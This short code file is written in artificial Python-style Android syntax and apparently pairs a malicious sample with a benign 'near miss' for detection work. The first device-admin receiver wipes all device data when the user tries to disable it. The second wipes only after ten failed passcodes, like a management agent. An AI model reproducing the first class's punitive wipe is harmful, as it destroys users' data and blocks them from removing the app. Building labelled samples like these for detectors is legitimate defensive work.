permissions("INTERNET")

@receiver(permission="BIND_DEVICE_ADMIN", actions=["android.app.action.DEVICE_ADMIN_ENABLED"])
class Admin(DeviceAdminReceiver):
    def onDisableRequested(self, context, intent):
        self.wipe(context)
        return "Think again."
    def onPasswordFailed(self, context, intent):
        pass
    def wipe(self, context: Context):
        cast(DevicePolicyManager, context.getSystemService("device_policy")).wipeData(1)

# near miss: a management agent, which wipes after too many wrong passcodes
@receiver(permission="BIND_DEVICE_ADMIN", actions=["android.app.action.DEVICE_ADMIN_ENABLED"])
class Admin(DeviceAdminReceiver):
    def onDisableRequested(self, context, intent):
        return "Think again."
    def onPasswordFailed(self, context, intent):
        manager = cast(DevicePolicyManager, context.getSystemService("device_policy"))
        if manager.getCurrentFailedPasswordAttempts() == 10:
            self.wipe(context)
    def wipe(self, context: Context):
        cast(DevicePolicyManager, context.getSystemService("device_policy")).wipeData(1)
